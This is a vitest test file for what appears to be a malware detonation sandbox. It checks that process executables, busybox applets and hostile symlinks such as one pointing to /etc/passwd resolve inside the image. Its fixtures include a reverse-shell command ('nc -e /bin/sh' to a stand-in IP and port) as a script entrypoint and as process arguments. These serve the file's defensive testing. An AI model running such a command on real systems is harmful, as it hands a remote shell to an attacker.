import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { resolveExecutables } from '../../src/detonate/session.js';
import { processName } from '../../src/verdict/context.js';

describe('process executables resolved in the image', () => {
  const root = mkdtempSync(join(tmpdir(), 'detonate-exe-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  mkdirSync(join(root, 'bin'));
  writeFileSync(join(root, 'bin', 'busybox'), 'ELF');
  symlinkSync('busybox', join(root, 'bin', 'sh'));
  symlinkSync('/bin/busybox', join(root, 'bin', 'nc'));
  // a hostile link pointing out of the image resolves inside it, never on the host
  symlinkSync('/etc/passwd', join(root, 'bin', 'escape'));
  symlinkSync('loop', join(root, 'bin', 'loop'));
  writeFileSync(join(root, 'entry.sh'), '#!/bin/sh\nnc -e /bin/sh 192.0.2.10 4444\n');

  it('names busybox applets by argv[0] once their links are resolved, and leaves unknown or hostile paths alone', async () => {
    const p = (pid: number, exe: string, argv: string[]) => ({ pid, ppid: 1, exe, argv, startMs: 0 });
    const out = await resolveExecutables(
      [p(1, '/bin/sh', ['/bin/sh', '/sample.sh']), p(2, '/bin/sh', ['nc', '192.0.2.10', '4444']), p(3, '/bin/nc', ['nc']), p(4, '/tmp/x', ['/tmp/x']), p(5, '/bin/escape', ['x']), p(6, '/bin/loop', ['loop'])],
      root,
    );
    expect(out.map((x) => x.exe)).toEqual(['/bin/busybox', '/bin/busybox', '/bin/busybox', '/tmp/x', '/bin/escape', '/bin/loop']);
    expect(out.map((x) => processName(x.exe, x.argv))).toEqual(['sh', 'nc', 'nc', 'x', 'escape', 'loop']);
  });

  it("keeps a script entrypoint's path, and gives applets its shell re-executed the interpreter's program", async () => {
    const p = (pid: number, argv: string[]) => ({ pid, ppid: 1, exe: '/entry.sh', argv, startMs: 0 });
    const out = await resolveExecutables([p(1, ['/entry.sh']), p(2, ['/entry.sh']), p(3, ['nc', '-e', '/bin/sh', '192.0.2.10', '4444'])], root);
    expect(out.map((x) => x.exe)).toEqual(['/entry.sh', '/entry.sh', '/bin/busybox']);
    expect(processName(out[2]!.exe, out[2]!.argv)).toBe('nc');
  });
});
